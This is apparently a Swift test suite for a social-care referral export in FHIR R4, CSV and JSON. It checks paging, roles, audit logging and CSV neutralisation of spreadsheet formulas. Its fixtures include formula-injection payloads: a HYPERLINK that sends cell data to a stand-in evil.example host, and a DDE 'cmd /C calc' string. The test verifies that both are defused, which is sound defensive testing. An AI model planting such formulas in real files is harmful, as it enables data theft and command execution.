import Foundation
import SyncCore
import TestSupport
import Testing
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif

/// The export for case management (issue 16, item 3) against the real
/// server: paging by cursor, a referral changed again coming again, roles,
/// the audit entry; and the three formats checked outside Swift by
/// `Tests/Export/export_check.py` (every FHIR resource validated against
/// HL7's R4 JSON Schema and parsed with fhir.resources' R4 models, the CSV
/// read back with Python's `csv` module against the JSON).
@Suite("Export: FHIR R4, CSV and JSON")
struct ExportTests {
    static let script = Repository.root.appendingPathComponent("Tests/Export/export_check.py")
    /// HL7's R4 JSON Schema: the repository's copy, else the shared folder's beside the repository (Tests/Export/fhir.schema.md).
    static let schemaCandidates = [
        Repository.root.appendingPathComponent("Tests/Export/fhir.schema.json"),
        Repository.root.deletingLastPathComponent().appendingPathComponent("shared/fhir/fhir.schema.json"),
    ]
    static var schema: URL? { schemaCandidates.first { FileManager.default.fileExists(atPath: $0.path) } }
    /// Whether a missing Python checker or schema fails the test rather than being noted: under `scripts/test` and in CI.
    static var required: Bool { TestPython.required || ProcessInfo.processInfo.environment["CI"] == "true" }

    /// GET with a bearer token: status, body, headers.
    func get(_ server: ServerProcess, _ path: String, token: String) async throws -> (Int, Data, HTTPURLResponse) {
        var request = URLRequest(url: URL(string: server.url.absoluteString + "/" + path)!)
        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization")
        let (data, response) = try await URLSession.shared.data(for: request)
        let http = response as! HTTPURLResponse
        return (http.statusCode, data, http)
    }

    @Test("pages by cursor, a changed referral comes again, only intake and admins, audited; every FHIR resource valid against the R4 JSON Schema and parsed as R4, bundles identified by reference, fullUrls UUIDs, address, consent and alleged perpetrator carried; the CSV round-trips every field")
    func export() async throws {
        let server = try ServerProcess(clock: "2026-11-23T12:00:00Z")
        let jane = try await Device(server: server, token: try server.addUser("jane"))
        let intakeToken = try server.addUser("ian", role: .intake)
        let intake = try await Device(server: server, token: intakeToken)
        let janeToken = try server.addUser("jane2")
        defer { [jane, intake].forEach { $0.remove() } }

        // One referral with everything the formats map, text that needs quoting included; one plain.
        let full = try jane.store.createReferral(kind: .socialCare)
        for (path, value) in [
            ("referrer.name", "Jane \"JJ\" Smith"), ("referrer.role", "Health visitor"), ("referrer.agency", "Worcester Health Visiting, North"),
            ("concern.summary", "Bruises on both arms,\nseen on Monday; Amy said \"it was an accident\""), ("urgency.immediate_risk", "yes"),
            ("urgency.call_made", "yes"), ("concern.allegations", "Zoë's mother's partner grabbed her"),
            // Formula injection (issue 26, item 4): each would run in a spreadsheet unneutralised.
            ("referrer.phone", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Call back\")"), ("referrer.email", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("concern.where", "-2+3"), ("concern.sources", "'quoted by the child'"),
            // What the FHIR export lacked (issue 29, item 5): the child's address (with a no-break space, which R4's
            // string pattern refuses), consent and the alleged perpetrator.
            ("household.address", "12 Elm Road,\u{00A0}Worcester WR1 1AA"), ("consent.status", "given"),
            ("consent.given_by", "Kim Smith (mother), 20 November"), ("concern.perpetrator", "Lee Brown, mother's partner"),
            ("concern.perpetrator_whereabouts", "At the family home"),
        ] {
            try jane.store.set(path, of: full, to: value)
        }
        for (name, nhs, born) in [("Amy Smith", "943 476 5919", "2019-03-14"), ("Ben Smith", "401 023 2137", "2021-07-01")] {
            let child = try jane.store.addItem(to: "children", of: full)
            try jane.store.set("children.\(child.lowercased).full_name", of: full, to: name)
            try jane.store.set("children.\(child.lowercased).nhs_number", of: full, to: nhs)
            try jane.store.set("children.\(child.lowercased).date_of_birth", of: full, to: born)
        }
        let removed = try jane.store.addItem(to: "children", of: full)
        try jane.store.set("children.\(removed.lowercased).full_name", of: full, to: "Added by mistake")
        _ = try jane.store.removeItem("children.\(removed.lowercased)", of: full)
        let parent = try jane.store.addItem(to: "parental_responsibility", of: full)
        try jane.store.set("parental_responsibility.\(parent.lowercased).name", of: full, to: "Kim Smith")
        try jane.store.set("parental_responsibility.\(parent.lowercased).relationship", of: full, to: "Mother")
        let member = try jane.store.addItem(to: "household_members", of: full)
        try jane.store.set("household_members.\(member.lowercased).name", of: full, to: "Lee Brown")
        try jane.store.set("household_members.\(member.lowercased).relationship", of: full, to: "Mother's partner")
        _ = try jane.store.submit(full)
        let plain = try jane.store.createReferral(kind: .earlyHelp)
        try jane.store.set("referrer.name", of: plain, to: "Jane Smith")
        try jane.store.set("referrer.agency", of: plain, to: "Health visiting")
        try jane.store.set("consent.status", of: plain, to: "refused")
        try jane.store.set("consent.reason", of: plain, to: "Neglect meets the threshold; the mother was told")
        _ = try jane.store.submit(plain)
        let draft = try jane.store.createReferral(kind: .socialCare)
        try jane.store.set("concern.summary", of: draft, to: "A draft is never exported")
        try await jane.sync()
        _ = try await intake.client.decide(plain.lowercased, outcome: .adviceGiven, note: "Advice given; thank you")

        // Practitioners may not export.
        #expect(try await get(server, "v1/export", token: janeToken).0 == 403)
        #expect(try await get(server, "v1/export?format=xml", token: intakeToken).0 == 400)
        #expect(try await get(server, "v1/export?limit=0", token: intakeToken).0 == 400)
        #expect(try await get(server, "v1/export?since=-1", token: intakeToken).0 == 400)

        // Page by page: one, then the other, then nothing.
        func page(_ since: Int64, limit: Int = 1) async throws -> (cursor: Int64, more: Bool, ids: [String]) {
            let (status, data, response) = try await get(server, "v1/export?since=\(since)&limit=\(limit)", token: intakeToken)
            #expect(status == 200)
            let json = try JSONSerialization.jsonObject(with: data) as? [String: Any] ?? [:]
            let cursor = (json["cursor"] as? NSNumber)?.int64Value ?? -1
            #expect(response.value(forHTTPHeaderField: "Export-Cursor") == String(cursor))
            return (cursor, json["more"] as? Bool ?? false, (json["referrals"] as? [[String: Any]] ?? []).compactMap { $0["id"] as? String })
        }
        let first = try await page(0)
        #expect(first.ids == [full.lowercased] && first.more)
        let second = try await page(first.cursor)
        #expect(second.ids == [plain.lowercased] && !second.more)
        let third = try await page(second.cursor)
        #expect(third.ids.isEmpty && !third.more && third.cursor == second.cursor)
        // A later change brings a referral again.
        try jane.store.set("concern.summary", of: full, to: "Bruises on both arms, seen again on Tuesday")
        try await jane.sync()
        let again = try await page(second.cursor)
        #expect(again.ids == [full.lowercased])

        // The three formats of one page, checked in Python.
        let folder = try TemporaryFolder.make("export")
        defer { try? FileManager.default.removeItem(at: folder) }
        for format in ["json", "csv", "fhir"] {
            let (status, data, response) = try await get(server, "v1/export?format=\(format)&limit=10", token: intakeToken)
            #expect(status == 200, "\(format): \(String(decoding: data, as: UTF8.self).prefix(300))")
            #expect(response.value(forHTTPHeaderField: "Content-Type")?.contains(format == "fhir" ? "fhir+json" : format) == true)
            try data.write(to: folder.appendingPathComponent("page.\(format)"))
        }
        let json = try String(contentsOf: folder.appendingPathComponent("page.json"), encoding: .utf8)
        #expect(!json.contains("Added by mistake") && !json.contains("A draft is never exported"))
        let fhir = try String(contentsOf: folder.appendingPathComponent("page.fhir"), encoding: .utf8)
        #expect(fhir.contains("https://fhir.nhs.uk/Id/nhs-number") && fhir.contains("\"resourceType\":\"Flag\""))
        #expect(fhir.contains("\"status\":\"completed\"") && fhir.contains("\"status\":\"active\""))
        // Each referral's bundle is identified by the referral's own reference, never by a receipt several share (issue 27).
        let outer = try #require(try JSONSerialization.jsonObject(with: Data(fhir.utf8)) as? [String: Any])
        let bundles = (outer["entry"] as? [[String: Any]] ?? []).compactMap { $0["resource"] as? [String: Any] }
        let identifiers = bundles.compactMap { ($0["identifier"] as? [String: Any]).flatMap { $0["system"] as? String == "urn:field-sync:reference" ? $0["value"] as? String : nil } }
        #expect(identifiers.count == bundles.count && Set(identifiers).count == identifiers.count && identifiers.allSatisfy { $0.hasPrefix("F-") }, "\(identifiers)")
        let exported = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let references = (exported["referrals"] as? [[String: Any]] ?? []).compactMap { $0["reference"] as? String }
        #expect(Set(references) == Set(identifiers), "the JSON export names the same references")
        let receipts = (exported["referrals"] as? [[String: Any]] ?? []).compactMap { $0["receipt"] as? String }
        #expect(!receipts.isEmpty && Set(receipts).isDisjoint(with: identifiers), "no bundle is identified by a receipt: \(receipts)")

        // Every fullUrl is urn:uuid: with a UUID, one per resource: the Flag's was `urn:uuid:<id>-flag`, and the
        // referral's Bundle had its ServiceRequest's (issue 29, item 5; export_check.py checks the documented UUID v5s).
        let entries = bundles.flatMap { $0["entry"] as? [[String: Any]] ?? [] }
        let fullUrls = ((outer["entry"] as? [[String: Any]] ?? []) + entries).map { $0["fullUrl"] as? String ?? "" }
        #expect(fullUrls.count > bundles.count && fullUrls.allSatisfy { $0.hasPrefix("urn:uuid:") && UUID(uuidString: String($0.dropFirst(9))) != nil }, "\(fullUrls)")
        #expect(Set(fullUrls).count == fullUrls.count, "one fullUrl, one resource: \(fullUrls)")
        #expect(outer["total"] == nil, "a collection has no total (R4 bdl-1)")
        // Each child's Patient has the address (the no-break space a space), and consent and the alleged perpetrator are labelled notes.
        let resources = entries.compactMap { $0["resource"] as? [String: Any] }
        let patients = resources.filter { $0["resourceType"] as? String == "Patient" }
        #expect(patients.count == 2 && patients.allSatisfy { ($0["address"] as? [[String: String]]) == [["use": "home", "text": "12 Elm Road, Worcester WR1 1AA"]] },
                "\(patients.map { $0["address"] ?? "no address" })")
        func notes(_ referral: UUID) -> [String] {
            let request = resources.first { $0["resourceType"] as? String == "ServiceRequest" && $0["id"] as? String == referral.lowercased }
            return (request?["note"] as? [[String: Any]] ?? []).compactMap { $0["text"] as? String }
        }
        #expect(notes(full) == [
            "Allegations: Zoë's mother's partner grabbed her", "Alleged perpetrator: Lee Brown, mother's partner",
            "Alleged perpetrator's whereabouts: At the family home", "Consent: Given", "Consent given or refused by: Kim Smith (mother), 20 November",
        ], "\(notes(full))")
        #expect(notes(plain) == [
            "Consent: Refused", "Reason for going ahead without consent: Neglect meets the threshold; the mother was told",
            "Outcome: Advice and information given. Advice given; thank you",
        ], "\(notes(plain))")

        if TestPython.has(module: "fhir.resources, jsonschema") {
            let schema = Self.schema
            #expect(schema != nil || !Self.required, "HL7's R4 fhir.schema.json is at neither \(Self.schemaCandidates.map(\.path)) (Tests/Export/fhir.schema.md)")
            if schema == nil { print("note: the export's FHIR is not validated against the R4 JSON Schema: no fhir.schema.json at \(Self.schemaCandidates.map(\.path))") }
            let errors = folder.appendingPathComponent("stderr").path
            let (termination, output) = try ChildProcess.run(
                TestPython.path, [
                    Self.script.path, "--json", folder.appendingPathComponent("page.json").path,
                    "--csv", folder.appendingPathComponent("page.csv").path, "--fhir", folder.appendingPathComponent("page.fhir").path,
                ] + (schema.map { ["--schema", $0.path] } ?? []), error: .file(errors))
            let error = (try? String(contentsOfFile: errors, encoding: .utf8)) ?? ""
            #expect(termination.status == 0, "export_check.py: \(output)\(error.suffix(2000))")
            #expect(output.contains("ok: FHIR R4") && output.contains("ok: FHIR fullUrls") && output.contains("ok: CSV"), "\(output)")
            #expect(schema == nil || output.contains("ok: FHIR R4 JSON Schema"), "\(output)")
        } else {
            #expect(!Self.required, "SYNC_TEST_REQUIRE_BROWSER=1 or CI but \(TestPython.path) lacks fhir.resources or jsonschema (scripts/test installs them)")
            print("note: the export's Python checks are skipped: \(TestPython.path) lacks fhir.resources or jsonschema (scripts/test installs them)")
        }

        // The operator's command gives the same, and every export is on the audit trail.
        let operatorFHIR = try server.command(["export", "--format", "fhir", "--limit", "10"])
        #expect(operatorFHIR.status == 0 && operatorFHIR.output == fhir.trimmingCharacters(in: .whitespacesAndNewlines),
                "the operator's FHIR is the API's, shared Patients included")
        let (status, csv) = try server.command(["export", "--format", "csv", "--limit", "10"])
        #expect(status == 0 && csv.hasPrefix("\"id\",\"receipt\",\"submitted_at\",\"referrer\",\"revision\""))
        // No value's cell starts with a formula (the header holds our own column names); each such value is
        // there, prefixed with a quote (export_check.py reverses it).
        let rows = csv.components(separatedBy: "\r\n").dropFirst().joined(separator: "\r\n")
        for start in ["\"=", "\"+", "\"-", "\"@", "\"\t", "\"\r"] {
            #expect(!rows.contains("," + start) && !rows.hasPrefix(start) && !rows.contains("\n" + start), "a CSV cell starts with \(start.dropFirst())")
        }
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Call back\"\")\""))
        #expect(csv.contains("\"'@SUM(1+1)") && csv.contains("\"'-2+3\"") && csv.contains("\"''quoted by the child'\""))
        let audit = try server.command(["audit", "show", "--action", "export", "--limit", "50"]).output
        #expect(audit.components(separatedBy: "\n").filter { $0.contains("export") }.count >= 8)
        #expect(!audit.contains("Bruises"))
    }
}
